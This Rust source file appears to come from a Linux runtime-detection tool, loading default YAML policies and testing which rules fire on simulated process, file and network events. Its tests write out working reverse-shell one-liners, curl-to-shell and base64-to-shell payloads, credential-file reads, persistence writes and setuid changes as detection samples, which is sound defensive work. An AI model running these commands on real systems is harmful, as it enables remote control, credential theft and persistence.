//! The shipped default policies: `policies/*.yaml` at the workspace root, embedded at build
//! time and validated like any other set (a unit test keeps them loading clean).

use super::{parse_files, Policy, PolicyError};

/// Name (as shown in errors and `policy list`) and text of each shipped file.
pub const DEFAULT_FILES: &[(&str, &str)] = &[
    (
        "policies/server-shells.yaml",
        include_str!("../../../policies/server-shells.yaml"),
    ),
    (
        "policies/reverse-shells.yaml",
        include_str!("../../../policies/reverse-shells.yaml"),
    ),
    (
        "policies/suspicious-exec.yaml",
        include_str!("../../../policies/suspicious-exec.yaml"),
    ),
    (
        "policies/container-drift.yaml",
        include_str!("../../../policies/container-drift.yaml"),
    ),
    (
        "policies/credential-access.yaml",
        include_str!("../../../policies/credential-access.yaml"),
    ),
    (
        "policies/system-tampering.yaml",
        include_str!("../../../policies/system-tampering.yaml"),
    ),
    (
        "policies/library-loads.yaml",
        include_str!("../../../policies/library-loads.yaml"),
    ),
    (
        "policies/cloud-metadata.yaml",
        include_str!("../../../policies/cloud-metadata.yaml"),
    ),
    (
        "policies/download-execute.yaml",
        include_str!("../../../policies/download-execute.yaml"),
    ),
    (
        "policies/user-persistence.yaml",
        include_str!("../../../policies/user-persistence.yaml"),
    ),
    (
        "policies/privilege-escalation.yaml",
        include_str!("../../../policies/privilege-escalation.yaml"),
    ),
    (
        "policies/defense-evasion.yaml",
        include_str!("../../../policies/defense-evasion.yaml"),
    ),
    (
        "policies/process-memory.yaml",
        include_str!("../../../policies/process-memory.yaml"),
    ),
    (
        "policies/container-escape.yaml",
        include_str!("../../../policies/container-escape.yaml"),
    ),
    (
        "policies/kernel-modules.yaml",
        include_str!("../../../policies/kernel-modules.yaml"),
    ),
    (
        "policies/io-uring.yaml",
        include_str!("../../../policies/io-uring.yaml"),
    ),
    (
        "policies/network-sniffing.yaml",
        include_str!("../../../policies/network-sniffing.yaml"),
    ),
    (
        "policies/exfiltration.yaml",
        include_str!("../../../policies/exfiltration.yaml"),
    ),
    (
        "policies/sql-injection.yaml",
        include_str!("../../../policies/sql-injection.yaml"),
    ),
    (
        "policies/tls-http.yaml",
        include_str!("../../../policies/tls-http.yaml"),
    ),
];

/// The shipped default set, validated like any other.
pub fn default_policies() -> Result<Vec<Policy>, Vec<PolicyError>> {
    parse_files(DEFAULT_FILES)
}

#[cfg(test)]
mod tests {
    use std::net::SocketAddr;

    use super::*;
    use crate::policy::{vocab::EventType, Access, Subject};

    /// An event, described the way the engine would see it.
    struct Ev {
        event: EventType,
        exe: &'static str,
        comm: &'static str,
        argv: Vec<String>,
        uid: u32,
        /// Parent first.
        ancestors: Vec<&'static str>,
        container: bool,
        path: Option<&'static str>,
        access: Access,
        dest: Option<SocketAddr>,
        query: Option<&'static str>,
        sql_findings: Vec<String>,
        /// The issue-19 events' fields (see `Subject`).
        path2: Option<&'static str>,
        operation: Option<&'static str>,
        mode: Option<u32>,
        xattr: Option<&'static str>,
        target_exe: Option<&'static str>,
        target_descendant: Option<bool>,
        namespaces: Vec<String>,
        into_host: Option<bool>,
        mount_source: Option<&'static str>,
        fstype: Option<&'static str>,
        prog_type: Option<&'static str>,
        stdio: Option<[crate::events::StdioFd; 3]>,
        stdin_peer: Option<(&'static str, Vec<String>)>,
        substituted_from: Option<&'static str>,
        argv_truncated: bool,
        cwd: &'static str,
        exe_built_by: Option<&'static str>,
    }

    impl Ev {
        fn clone_ev(&self) -> Ev {
            Ev {
                argv: self.argv.clone(),
                ancestors: self.ancestors.clone(),
                sql_findings: self.sql_findings.clone(),
                namespaces: self.namespaces.clone(),
                stdin_peer: self.stdin_peer.clone(),
                ..*self
            }
        }
    }

    fn base(event: EventType, exe: &'static str, ancestors: &[&'static str]) -> Ev {
        let comm = exe.rsplit('/').next().unwrap_or(exe);
        Ev {
            event,
            exe,
            comm: &comm[..comm.len().min(15)],
            argv: vec![comm.to_string()],
            uid: 0,
            ancestors: ancestors.to_vec(),
            container: false,
            path: None,
            access: Access::empty(),
            dest: None,
            query: None,
            sql_findings: Vec::new(),
            path2: None,
            operation: None,
            mode: None,
            xattr: None,
            target_exe: None,
            target_descendant: None,
            namespaces: Vec::new(),
            into_host: None,
            mount_source: None,
            fstype: None,
            prog_type: None,
            stdio: None,
            stdin_peer: None,
            substituted_from: None,
            argv_truncated: false,
            cwd: "/root",
            exe_built_by: None,
        }
    }

    fn exec(exe: &'static str, argv: &[&str], ancestors: &[&'static str]) -> Ev {
        let mut e = base(EventType::Exec, exe, ancestors);
        if !argv.is_empty() {
            e.argv = argv.iter().map(|s| s.to_string()).collect();
        }
        e
    }

    fn open(exe: &'static str, path: &'static str, access: Access) -> Ev {
        let mut e = base(
            EventType::FileOpen,
            exe,
            &["/usr/bin/bash", "/usr/sbin/sshd"],
        );
        e.path = Some(path);
        e.access = access;
        e
    }

    fn load(exe: &'static str, path: &'static str) -> Ev {
        let mut e = base(EventType::LibraryLoad, exe, &["/usr/bin/bash"]);
        e.path = Some(path);
        e
    }

    fn connect(exe: &'static str, dest: &str) -> Ev {
        let mut e = base(EventType::Connect, exe, &["/usr/bin/bash"]);
        e.dest = dest.parse().ok();
        e
    }

    fn in_container(mut e: Ev) -> Ev {
        e.container = true;
        e
    }

    fn with_comm(mut e: Ev, comm: &'static str) -> Ev {
        e.comm = comm;
        e
    }

    /// Ids of the default rules that fire on `e`.
    fn fired(e: &Ev) -> Vec<String> {
        let policies = default_policies().expect("defaults load");
        let argv = crate::events::Argv::new(&e.argv);
        let peer_argv = e
            .stdin_peer
            .as_ref()
            .map(|(_, a)| crate::events::Argv::new(a));
        let script = (e.event == EventType::Exec)
            .then(|| crate::process::script::script_of(e.exe, &argv, Some(e.cwd)))
            .flatten();
        let s = Subject {
            exe: Some(e.exe),
            comm: e.comm,
            uid: e.uid,
            parent_exe: e.ancestors.first().copied(),
            ancestor_exes: &e.ancestors,
            cgroup: Some(if e.container {
                "/kubepods/besteffort/pod0f1e2d3c-0000-0000-0000-000000000000/3f4e"
            } else {
                "/system.slice/x.service"
            }),
            container_id: e.container.then_some("3f4e"),
            in_container: e.container,
            path: e.path,
            access: e.access,
            dest: e.dest,
            query: e.query,
            sql_findings: &e.sql_findings,
            path2: e.path2,
            operation: e.operation,
            mode: e.mode,
            xattr: e.xattr,
            target_exe: e.target_exe,
            target_descendant: e.target_descendant,
            target_same_uid: e.target_exe.map(|_| true),
            namespaces: &e.namespaces,
            into_host: e.into_host,
            mount_source: e.mount_source,
            fstype: e.fstype,
            prog_type: e.prog_type,
            stdio: e.stdio.as_ref(),
            stdin_peer_exe: e.stdin_peer.as_ref().map(|(x, _)| *x),
            stdin_peer_argv: peer_argv.as_ref(),
            substituted_from_exe: e.substituted_from,
            argv_truncated: e.argv_truncated,
            script: script.as_deref(),
            exe_built_by: e.exe_built_by,
            sql: None,
            ..Subject::of(e.event, &argv)
        };
        policies
            .iter()
            .filter(|p| p.applies_to(&s))
            .flat_map(|p| p.rules.iter().filter(|r| r.matches(&s)))
            .map(|r| r.id.clone())
            .collect()
    }

    #[track_caller]
    fn only(e: Ev, rule: &str) {
        assert_eq!(fired(&e), [rule]);
    }

    #[track_caller]
    fn none(e: Ev) {
        assert_eq!(fired(&e), Vec::<String>::new());
    }

    const W: Access = Access::WRITE;

    #[test]
    fn defaults_load_with_zero_errors() {
        let policies = match default_policies() {
            Ok(p) => p,
            Err(errors) => panic!(
                "{}",
                errors
                    .iter()
                    .map(|e| e.to_string())
                    .collect::<Vec<_>>()
                    .join("\n")
            ),
        };
        assert_eq!(policies.len(), DEFAULT_FILES.len());
        assert!(policies
            .iter()
            .all(|p| p.mode == crate::policy::vocab::Mode::Audit));
        for r in policies.iter().flat_map(|p| &p.rules) {
            assert!(
                r.description.as_deref().is_some_and(|d| d.len() > 40),
                "{} needs a description saying why it matters",
                r.id
            );
            assert!(r.mode.is_none(), "{}: defaults run in audit mode", r.id);
        }
    }

    #[test]
    fn shells_from_servers() {
        only(
            exec(
                "/usr/bin/dash",
                &["sh", "-c", "id"],
                &["/usr/sbin/nginx", "/usr/lib/systemd/systemd"],
            ),
            "shell-from-web-server",
        );
        only(
            exec(
                "/usr/bin/bash",
                &[],
                &["/usr/bin/dash", "/usr/sbin/php-fpm8.2"],
            ),
            "shell-from-web-server",
        );
        none(exec(
            "/usr/bin/bash",
            &["-bash"],
            &["/usr/sbin/sshd", "/usr/sbin/sshd"],
        ));
        // Apache's piped log program.
        none(exec(
            "/usr/bin/dash",
            &[
                "/bin/sh",
                "-c",
                "/usr/bin/rotatelogs /var/log/apache2/access.%Y 86400",
            ],
            &["/usr/sbin/apache2"],
        ));
        // COPY ... FROM PROGRAM fetching a stager: both the shell and the download-execute.
        assert_eq!(
            fired(&exec(
                "/usr/bin/dash",
                &["sh", "-c", "curl http://x/a.sh | sh"],
                &["/usr/lib/postgresql/16/bin/postgres"],
            )),
            ["shell-from-database", "download-piped-to-shell"]
        );
        none(exec(
            "/usr/bin/dash",
            &[
                "sh",
                "-c",
                "pgbackrest --stanza=main archive-push pg_wal/0001",
            ],
            &["/usr/lib/postgresql/16/bin/postgres"],
        ));
        // pg_ctl starting the server through a shell is not a server spawning a shell.
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "exec postgres -D /data"],
            &["/usr/lib/postgresql/16/bin/pg_ctl", "/usr/bin/bash"],
        ));
        only(
            in_container(exec(
                "/bin/busybox",
                &["sh"],
                &["/opt/java/openjdk/bin/java"],
            )),
            "shell-from-app-runtime-in-container",
        );
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "node build.js"],
            &["/usr/bin/node"],
        ));
    }

    #[test]
    fn reverse_shells() {
        let rs = "reverse-shell-dev-tcp";
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],
                &[],
            ),
            rs,
        );
        only(
            exec(
                "/usr/bin/bash",
                &[
                    "bash",
                    "-c",
                    "0<&196;exec 196<>/dev/tcp/1.2.3.4/80; sh <&196 >&196 2>&196",
                ],
                &[],
            ),
            rs,
        );
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "/bin/bash -l > /dev/tcp/1.2.3.4/80 0<&1 2>&1"],
                &[],
            ),
            rs,
        );
        // Port checks.
        none(exec(
            "/usr/bin/bash",
            &["bash", "-c", "</dev/tcp/127.0.0.1/5432"],
            &[],
        ));
        none(exec(
            "/usr/bin/bash",
            &["bash", "-c", "echo > /dev/tcp/localhost/80 2>&1"],
            &[],
        ));
        none(exec(
            "/usr/bin/bash",
            &[
                "bash",
                "-c",
                "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
            ],
            &[],
        ));

        let nc = "reverse-shell-netcat-exec";
        only(
            exec(
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"],
                &[],
            ),
            nc,
        );
        only(
            exec(
                "/usr/bin/ncat",
                &["ncat", "1.2.3.4", "4444", "--sh-exec", "bash"],
                &[],
            ),
            nc,
        );
        only(
            exec(
                "/usr/bin/nc.traditional",
                &["nc", "-nve", "/bin/sh", "1.2.3.4", "1"],
                &[],
            ),
            nc,
        );
        none(exec("/usr/bin/nc.openbsd", &["nc", "-l", "8080"], &[]));
        none(exec(
            "/usr/bin/nc.openbsd",
            &["nc", "-zv", "db", "5432"],
            &[],
        ));
        only(
            exec("/bin/busybox", &["nc", "1.2.3.4", "4444", "-e", "sh"], &[]),
            "reverse-shell-busybox-netcat",
        );
        none(exec("/bin/busybox", &["sed", "-e", "s/a/b/", "f"], &[]));

        only(
            exec(
                "/usr/bin/socat",
                &[
                    "socat",
                    "TCP:1.2.3.4:4444",
                    "EXEC:'bash -li',pty,stderr,setsid",
                ],
                &[],
            ),
            "reverse-shell-socat-exec",
        );
        none(exec(
            "/usr/bin/socat",
            &["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"],
            &[],
        ));

        only(
            exec(
                "/usr/bin/dash",
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
                ],
                &[],
            ),
            "reverse-shell-fifo-pipeline",
        );
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "mkfifo /run/app.fifo && sync"],
            &[],
        ));

        let py = "reverse-shell-scripting-one-liner";
        // Its `subprocess.call(["/bin/sh","-i"])` is also a bare shell started from inline code.
        fires(
            &exec(
                "/usr/bin/python3.11",
                &["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"],
                &[],
            ),
            py,
        );
        fires(
            &exec(
                "/usr/bin/python3.11",
                &["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
                &[],
            ),
            py,
        );
        only(
            exec(
                "/usr/bin/php8.2",
                &[
                    "php",
                    "-r",
                    "$sock=fsockopen(\"1.2.3.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                ],
                &[],
            ),
            py,
        );
        fires(&exec("/usr/bin/perl", &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"1.2.3.4\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");"], &[]), py);
        none(exec(
            "/usr/bin/python3.11",
            &[
                "python3",
                "-c",
                "import socket; print(socket.gethostname())",
            ],
            &[],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "/srv/app/socket_server.py", "--subprocess"],
            &[],
        ));
    }

    #[test]
    fn executing_from_writable_places() {
        only(exec("/tmp/x", &[], &["/usr/bin/bash"]), "exec-from-tmp");
        only(
            exec("/var/tmp/update/agent", &[], &["/usr/bin/bash"]),
            "exec-from-tmp",
        );
        none(exec("/usr/bin/ls", &[], &["/usr/bin/bash"]));
        only(
            exec("/tmp/.X11/miner", &[], &["/usr/bin/bash"]),
            "exec-from-hidden-tmp-path",
        );
        only(
            exec("/tmp/.x", &[], &["/usr/bin/bash"]),
            "exec-from-hidden-tmp-path",
        );
        only(
            exec("/dev/shm/k", &[], &["/usr/bin/bash"]),
            "exec-from-dev-shm",
        );
        only(
            exec("/memfd:payload (deleted)", &[], &["/usr/bin/python3.11"]),
            "exec-from-memfd",
        );
        none(exec(
            "/memfd:runc_cloned:/proc/self/exe (deleted)",
            &["runc", "init"],
            &[
                "/usr/bin/containerd-shim-runc-v2",
                "/usr/lib/systemd/systemd",
            ],
        ));
        only(
            exec(
                "/memfd:runc_cloned:/proc/self/exe (deleted)",
                &[],
                &["/usr/bin/bash"],
            ),
            "exec-from-memfd",
        );
        // Build tools running what they built.
        none(exec(
            "/tmp/go-build123/b001/exe/main",
            &[],
            &["/usr/local/go/bin/go", "/usr/bin/bash"],
        ));
        none(exec(
            "/tmp/ci/target/debug/build/x-1/build-script-build",
            &[],
            &["/root/.cargo/bin/cargo", "/usr/bin/bash"],
        ));
    }

    #[test]
    fn container_drift() {
        only(
            in_container(exec(
                "/usr/bin/apt-get",
                &["apt-get", "install", "-y", "nmap"],
                &["/usr/bin/bash"],
            )),
            "package-manager-in-container",
        );
        none(exec(
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "nmap"],
            &["/usr/bin/bash"],
        ));
        none(in_container(exec(
            "/usr/bin/dpkg",
            &["dpkg", "--unpack"],
            &["/usr/bin/apt-get", "/usr/bin/bash"],
        )));
        only(
            in_container(with_comm(
                exec(
                    "/usr/bin/python3.11",
                    &["/usr/bin/python3", "/usr/bin/pip", "install", "requests"],
                    &["/usr/bin/bash"],
                ),
                "pip",
            )),
            "language-package-install-in-container",
        );
        none(in_container(with_comm(
            exec("/usr/bin/env", &["npm", "start"], &["/usr/bin/dash"]),
            "npm",
        )));
        only(
            in_container(exec(
                "/usr/bin/x86_64-linux-gnu-gcc-12",
                &["cc", "-o", "x", "x.c"],
                &["/usr/bin/bash"],
            )),
            "compiler-in-container",
        );
        none(in_container(exec(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc"],
            &["/usr/bin/make", "/usr/bin/bash"],
        )));
        none(exec(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc", "-o", "x", "x.c"],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn credential_reads() {
        only(
            open("/usr/bin/cat", "/etc/shadow", Access::READ),
            "read-shadow-file",
        );
        none(open("/usr/sbin/unix_chkpwd", "/etc/shadow", Access::READ));
        none(open("/usr/sbin/sshd", "/etc/shadow", Access::READ));
        only(
            open("/usr/bin/cat", "/home/alice/.ssh/id_ed25519", Access::READ),
            "read-ssh-private-key",
        );
        none(open(
            "/usr/bin/cat",
            "/home/alice/.ssh/id_ed25519.pub",
            Access::READ,
        ));
        none(open(
            "/usr/bin/ssh",
            "/home/alice/.ssh/id_ed25519",
            Access::READ,
        ));
        only(
            open(
                "/usr/bin/python3.11",
                "/etc/ssh/ssh_host_ed25519_key",
                Access::READ,
            ),
            "read-ssh-private-key",
        );
        none(open(
            "/usr/sbin/sshd",
            "/etc/ssh/ssh_host_ed25519_key",
            Access::READ,
        ));
        only(
            open("/usr/bin/tar", "/root/.aws/credentials", Access::READ),
            "read-cloud-credentials",
        );
        none(open(
            "/usr/local/aws-cli/v2/2.15.0/dist/aws",
            "/root/.aws/credentials",
            Access::READ,
        ));
        only(
            open(
                "/usr/bin/cat",
                "/home/u/.config/gcloud/application_default_credentials.json",
                Access::READ,
            ),
            "read-cloud-credentials",
        );
        only(
            in_container(open(
                "/usr/bin/cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                Access::READ,
            )),
            "read-service-account-token-by-tool",
        );
        only(
            in_container(open(
                "/bin/busybox",
                "/run/secrets/kubernetes.io/serviceaccount/..2024_01_01_00_00_00.1/token",
                Access::READ,
            )),
            "read-service-account-token-by-tool",
        );
        none(in_container(open(
            "/usr/local/bin/controller",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            Access::READ,
        )));
    }

    #[test]
    fn system_tampering() {
        only(
            open("/usr/bin/bash", "/etc/ld.so.preload", W),
            "write-ld-so-preload",
        );
        only(
            open("/usr/bin/vim.basic", "/etc/hosts", W | Access::TRUNCATE),
            "write-below-etc",
        );
        none(in_container(open(
            "/usr/bin/envsubst",
            "/etc/nginx/conf.d/default.conf",
            W,
        )));
        none(open("/usr/bin/vim.basic", "/etc/hosts", Access::READ));
        let mut postinst = open("/usr/bin/sed", "/etc/default/grub", W);
        postinst.ancestors = vec!["/usr/bin/dash", "/usr/bin/dpkg", "/usr/bin/apt-get"];
        none(postinst);
        none(open(
            "/usr/sbin/NetworkManager",
            "/etc/NetworkManager/system-connections/x",
            W,
        ));
        only(
            open("/usr/bin/cp", "/usr/bin/ls", W | Access::CREATE),
            "write-below-binary-dirs",
        );
        only(
            open("/usr/bin/cp", "/lib/x86_64-linux-gnu/libc.so.6", W),
            "write-below-binary-dirs",
        );
        none(open(
            "/usr/bin/dpkg",
            "/usr/bin/ls.dpkg-new",
            W | Access::CREATE,
        ));
        none(open(
            "/usr/sbin/ldconfig.real",
            "/etc/ld.so.cache~",
            W | Access::CREATE,
        ));
        none(open(
            "/usr/bin/python3.11",
            "/usr/lib/python3/dist-packages/x/__pycache__/y.cpython-311.pyc",
            W | Access::CREATE,
        ));
        only(
            open("/usr/bin/bash", "/etc/cron.d/backdoor", W | Access::CREATE),
            "write-persistence-location",
        );
        only(
            open("/usr/bin/bash", "/root/.ssh/authorized_keys", W),
            "write-persistence-location",
        );
        none(open(
            "/usr/bin/crontab",
            "/var/spool/cron/crontabs/root",
            W | Access::CREATE,
        ));
    }

    #[test]
    fn library_loads() {
        only(
            load("/usr/bin/id", "/tmp/hook.so"),
            "preload-into-system-binary",
        );
        only(
            load("/opt/app/bin/app", "/tmp/x/libevil.so"),
            "library-load-from-tmp",
        );
        none(load(
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "/tmp/jna-12345/jna678.tmp",
        ));
        none(load(
            "/opt/tool/tool",
            "/tmp/_MEI12345/libpython3.11.so.1.0",
        ));
        none(load("/usr/bin/id", "/usr/lib/x86_64-linux-gnu/libc.so.6"));
        only(
            load("/usr/sbin/nginx", "/dev/shm/x.so"),
            "library-load-from-shm-or-memfd",
        );
        only(
            load("/usr/bin/python3.11", "/memfd:x (deleted)"),
            "library-load-from-shm-or-memfd",
        );
        none(load(
            "/usr/share/dotnet/dotnet",
            "/memfd:doublemapper (deleted)",
        ));
    }

    #[test]
    fn cloud_metadata() {
        only(
            in_container(connect("/usr/bin/curl", "169.254.169.254:80")),
            "cloud-metadata-from-container",
        );
        only(
            in_container(connect("/usr/local/bin/app", "[::ffff:169.254.169.254]:80")),
            "cloud-metadata-from-container",
        );
        only(
            in_container(connect("/usr/local/bin/app", "[fd00:ec2::254]:80")),
            "cloud-metadata-from-container",
        );
        none(in_container(connect(
            "/app/aws-k8s-agent",
            "169.254.169.254:80",
        )));
        only(
            connect("/usr/bin/curl", "169.254.169.254:80"),
            "cloud-metadata-from-host-tool",
        );
        let mut agent = connect("/usr/bin/curl", "169.254.169.254:80");
        agent.ancestors = vec!["/usr/bin/bash", "/usr/bin/google_metadata_script_runner"];
        none(agent);
        none(connect("/usr/local/bin/app", "169.254.169.254:80"));
        none(in_container(connect("/usr/bin/curl", "10.0.0.1:80")));
    }

    /// A shell running `cmd` through `-c`, below an SSH login.
    fn sh_c(cmd: &str) -> Ev {
        exec(
            "/usr/bin/dash",
            &["sh", "-c", cmd],
            &["/usr/bin/bash", "/usr/sbin/sshd"],
        )
    }

    #[test]
    fn download_and_decode_then_execute() {
        only(
            sh_c("curl -fsSL http://203.0.113.7/i.sh | sh"),
            "download-piped-to-shell",
        );
        only(
            sh_c("wget -qO- http://x/i | sudo /bin/bash -s -- -y"),
            "download-piped-to-shell",
        );
        only(
            sh_c("curl -s http://x/p.py | python3 -"),
            "download-piped-to-shell",
        );
        none(sh_c("curl -fsSL https://x/v1.tgz | tar xz -C /opt"));
        none(sh_c("curl -fsSL https://x/f | sha256sum -c sums"));
        none(sh_c("curl -s https://api/x | python3 -m json.tool"));
        none(sh_c("curl -s https://x/i | ssh host 'cat > i'"));
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "$(curl -fsSL https://x/install.sh)"],
                &["/usr/bin/bash"],
            ),
            "download-substituted-into-shell",
        );
        only(
            sh_c("bash <(wget -qO- http://x/i)"),
            "download-substituted-into-shell",
        );
        none(sh_c("v=$(curl -s http://localhost:8080/health); echo $v"));
        only(
            sh_c("echo Y3VybCBodHRwOi8veA== | base64 -d | bash"),
            "decoded-payload-to-shell",
        );
        only(
            sh_c("echo 6964 | xxd -r -p | sh"),
            "decoded-payload-to-shell",
        );
        none(sh_c("echo aGk= | base64 -d > /var/lib/app/blob"));
        none(sh_c("echo aGk= | base64 | sha1sum"));
        only(
            sh_c("eval \"$(echo aWQ= | base64 --decode)\""),
            "decoded-payload-substituted-into-shell",
        );
        only(
            exec(
                "/usr/bin/python3.11",
                &[
                    "python3",
                    "-c",
                    "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
                ],
                &["/usr/bin/bash"],
            ),
            "interpreter-inline-fetch-or-decode",
        );
        only(
            exec(
                "/usr/bin/python3.11",
                &[
                    "python3",
                    "-c",
                    "import urllib.request as u;exec(u.urlopen('http://x/s').read())",
                ],
                &["/usr/bin/bash"],
            ),
            "interpreter-inline-fetch-or-decode",
        );
        only(
            exec(
                "/usr/bin/perl",
                &[
                    "perl",
                    "-MMIME::Base64",
                    "-e",
                    "eval decode_base64('cHJpbnQ=')",
                ],
                &["/usr/bin/bash"],
            ),
            "interpreter-inline-fetch-or-decode",
        );
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "-c", "import sys; print(sys.version)"],
            &["/usr/bin/bash"],
        ));
        // pip's legacy setup.py shim.
        none(exec(
            "/usr/bin/python3.11",
            &[
                "/usr/bin/python3",
                "-c",
                "import io, os, sys, setuptools, tokenize; sys.argv[0] = '/tmp/pip-install-x/p/setup.py'; exec(compile(code, __file__, 'exec'))",
                "install",
            ],
            &["/usr/bin/python3.11", "/usr/bin/bash"],
        ));
        // Encoding is not decoding.
        none(exec(
            "/usr/bin/python3.11",
            &[
                "python3",
                "-c",
                "import base64; print(base64.b64encode(b'x'))",
            ],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn scripts_run_from_writable_dirs() {
        only(
            exec("/usr/bin/dash", &["sh", "/tmp/x"], &["/usr/bin/bash"]),
            "script-from-writable-dir",
        );
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "/dev/shm/.s"],
                &["/usr/bin/bash"],
            ),
            "script-from-writable-dir",
        );
        only(
            exec(
                "/usr/bin/python3.11",
                &["/usr/bin/python3", "-u", "/var/tmp/x.py"],
                &["/usr/bin/bash"],
            ),
            "script-from-writable-dir",
        );
        only(
            exec("/usr/bin/perl", &["perl", "/var/tmp/x"], &["/usr/bin/bash"]),
            "script-from-writable-dir",
        );
        // A #! script in /tmp executed directly: the kernel runs `interpreter script`.
        only(
            exec(
                "/usr/bin/dash",
                &["/bin/sh", "/tmp/run.sh", "a"],
                &["/usr/bin/bash"],
            ),
            "script-from-writable-dir",
        );
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "/run/user/1000/x"],
                &["/usr/bin/bash"],
            ),
            "script-from-writable-dir",
        );
        // pytest in /tmp: the script is /usr/bin/pytest, /tmp is only an argument.
        none(exec(
            "/usr/bin/python3.11",
            &["/usr/bin/python3", "/usr/bin/pytest", "/tmp/proj/tests"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "-m", "pytest", "/tmp/proj"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &[
                "/usr/bin/python3.11",
                "/tmp/pytest-of-root/pytest-0/test_a0/h.py",
            ],
            &["/usr/bin/python3.11", "/usr/bin/bash"],
        ));
        // The same path below a shell, not pytest: an intruder borrowing the name.
        only(
            exec(
                "/usr/bin/python3.11",
                &["python3", "/tmp/pytest-of-root/x.py"],
                &["/usr/bin/bash"],
            ),
            "script-from-writable-dir",
        );
        // A virtualenv in /tmp: its console scripts run through the venv's interpreter.
        none(exec(
            "/usr/bin/python3.11",
            &[
                "/tmp/b/venv/bin/python3",
                "/tmp/b/venv/bin/pytest",
                "-q",
                "/tmp/b/proj",
            ],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &[
                "/tmp/b/venv/bin/python3",
                "/tmp/b/venv/bin/pip",
                "install",
                "pytest",
            ],
            &["/usr/bin/bash"],
        ));
        none(sh_c("cat /tmp/build.log | grep error"));
        none(exec(
            "/usr/bin/dash",
            &["sh", "/usr/share/x/run.sh"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/bash",
            &["bash", "-c", "ls /tmp/x"],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn user_startup_file_persistence() {
        let wca = W | Access::CREATE;
        only(
            open("/usr/bin/bash", "/root/.bashrc", W),
            "write-user-startup-file",
        );
        only(
            open("/usr/bin/dash", "/home/alice/.profile", wca),
            "write-user-startup-file",
        );
        only(
            open("/usr/bin/tee", "/tmp/h/.bash_logout", W),
            "write-user-startup-file",
        );
        only(
            open(
                "/usr/bin/cp",
                "/home/alice/.config/autostart/updater.desktop",
                W | Access::CREATE,
            ),
            "write-user-startup-file",
        );
        only(
            open(
                "/usr/bin/cp",
                "/root/.config/systemd/user/sync.service",
                W | Access::CREATE,
            ),
            "write-user-startup-file",
        );
        // The installed editor saving the file is judged at its exec (by its stdin), not here.
        none(open(
            "/usr/bin/vim.basic",
            "/home/alice/.zshrc",
            W | Access::TRUNCATE,
        ));
        // A program named like an editor somewhere else is not the editor.
        only(
            open("/tmp/vim.basic", "/home/alice/.zshrc", W),
            "write-user-startup-file",
        );
        // Shells reading their rc files; package managers installing /etc/skel; useradd -m.
        none(open("/usr/bin/bash", "/root/.bashrc", Access::READ));
        let mut skel = open(
            "/usr/bin/dpkg",
            "/etc/skel/.bashrc.dpkg-new",
            W | Access::CREATE,
        );
        skel.ancestors = vec!["/usr/bin/apt-get", "/usr/bin/bash"];
        none(skel);
        none(open(
            "/usr/sbin/useradd",
            "/home/bob/.bashrc",
            W | Access::CREATE,
        ));
        none(open("/usr/bin/bash", "/home/alice/.bash_history", W));
    }

    #[test]
    fn privilege_escalation_by_file_mode() {
        for mode in ["u+s", "+s", "g+s", "u+xs", "a+rwxs", "u=rwxs", "u+x,g+s"] {
            only(
                exec(
                    "/usr/bin/chmod",
                    &["chmod", mode, "/tmp/sh"],
                    &["/usr/bin/bash"],
                ),
                "setuid-bit-set",
            );
        }
        for mode in ["4755", "6755", "2755", "04755"] {
            only(
                exec(
                    "/usr/bin/chmod",
                    &["chmod", mode, "/tmp/sh"],
                    &["/usr/bin/bash"],
                ),
                "setuid-bit-set-octal",
            );
        }
        only(
            exec(
                "/usr/bin/chmod",
                &["chmod", "-R", "4755", "/tmp/d"],
                &["/usr/bin/bash"],
            ),
            "setuid-bit-set-octal",
        );
        only(
            exec(
                "/usr/bin/install",
                &["install", "-m", "4755", "/bin/bash", "/var/tmp/b"],
                &["/usr/bin/bash"],
            ),
            "setuid-bit-set-octal",
        );
        for mode in ["755", "0644", "g+w", "u+x", "a-s", "u-s"] {
            none(exec(
                "/usr/bin/chmod",
                &["chmod", mode, "/srv/x"],
                &["/usr/bin/bash"],
            ));
        }
        // A file (not a mode) named like an octal number.
        none(exec(
            "/usr/bin/chmod",
            &["chmod", "644", "2023", "4755"],
            &["/usr/bin/bash"],
        ));
        none(exec(
